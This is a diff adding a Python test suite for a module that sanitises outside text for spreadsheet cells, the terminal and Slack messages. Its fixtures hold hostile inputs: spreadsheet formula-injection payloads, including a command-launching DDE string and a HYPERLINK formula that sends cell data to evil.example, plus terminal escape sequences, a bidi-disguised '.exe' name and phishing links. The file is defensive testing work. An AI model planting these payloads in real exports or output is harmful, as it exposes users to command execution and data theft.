@@ -1,0 +1,106 @@
+"""The three sinks of outside text (cmrt.textsafe): spreadsheet cells, the terminal, Slack mrkdwn, with hostile
+inputs (formula prefixes, Excel-escaped control characters, mrkdwn, links, bidi overrides)."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cmrt.textsafe import FORMULA_START, cell, slack, terminal
+from handlers.slack.text import clean, esc, plain
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\x1b=1+1",  # a control character first: removed, and what is left still starts with '='
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE_CELLS)
+def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_an_apostrophe(value: str) -> None:
+    out = cell(value)
+    assert isinstance(out, str) and out.startswith("'")
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", out)
+
+
+def test_harmless_cells_and_non_text_pass_unchanged() -> None:
+    assert cell("Wolfram Bergbau und Hütten AG") == "Wolfram Bergbau und Hütten AG"
+    assert cell("a=b") == "a=b"
+    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(None) is None
+
+
+@given(st.text())
+def test_no_cell_text_starts_like_a_formula(value: str) -> None:
+    out = cell(value)
+    assert isinstance(out, str)
+    assert out.startswith("'") or not out.startswith(FORMULA_START)
+
+
+def test_terminal_text_has_no_c0_or_c1_controls_and_no_bidi() -> None:
+    # "_x001B_[2J" in a workbook cell is decoded by the reader to ESC [ 2 J (clear screen)
+    hostile = "ACME\x1b[2J\x1b]0;owned\x07 Corp\x9b31m\u202egnp.exe\r\nnext\tline"
+    out = terminal(hostile)
+    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out
+    assert "\u202e" not in out
+    assert out == "ACME[2J]0;owned Corp31mgnp.exe\nnext\tline"
+
+
+@given(st.text())
+def test_terminal_never_lets_a_control_character_through(value: str) -> None:
+    out = terminal(value)
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
+
+
+def test_slack_keeps_the_characters_but_not_their_power() -> None:
+    out = slack("*Bold* _italic_ ~strike~ `code` ```block```")
+    assert not re.search(r"[*_~`]", out)
+    assert out == "∗Bold∗ ˍitalicˍ ∼strike∼ ˋcodeˋ ˋˋˋblockˋˋˋ"
+
+
+def test_slack_quote_at_line_start_mentions_and_links() -> None:
+    out = slack("> quoted\n  >also\nmid > line <!channel> <@U1> <https://evil.example|click>")
+    assert "\n&gt;" not in "\n" + out and "\n  &gt;" not in out
+    assert out.startswith("＞ quoted\n  ＞also")
+    assert "mid &gt; line" in out
+    assert "<" not in out and ">" not in out
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["https://evil.example/login", "see http://10.0.0.1/x", "www.evil.example", "visit evil.com now",
+     "ftp://files.evil.org/a", "phish.co.uk/path"],
+)  # fmt: skip
+def test_slack_bare_links_are_not_linkified(text: str) -> None:
+    out = slack(text)
+    assert "://" not in out
+    assert not re.search(r"[a-z0-9]\.[a-z]", out, re.I), out
+
+
+def test_slack_keeps_e_mail_addresses_and_ordinary_text() -> None:
+    assert slack("mail anna@acme.example, version 6.5, Co. Ltd.") == "mail anna@acme.example, version 6.5, Co. Ltd."
+
+
+def test_bidi_overrides_and_isolates_are_removed_from_names() -> None:
+    name = "Good\u202aCo\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 Ltd"
+    assert esc(name) == "GoodCo Ltd"
+    assert plain(name) == "GoodCo Ltd"
+    assert clean(name) == "GoodCo Ltd"
+
+
+def test_plain_text_escapes_entities_but_keeps_mrkdwn_characters() -> None:
+    assert plain("*A_B* <!here>") == "*A_B* &lt;!here&gt;"
+
+
+@given(st.text())
+def test_slack_output_never_carries_formatting_or_link_markup(value: str) -> None:
+    out = esc(value)
+    assert not re.search(r"[*_~`<>\u202a-\u202e\u2066-\u2069]", out)
+    assert not re.search(r"(?m)^\s*&gt;", out)
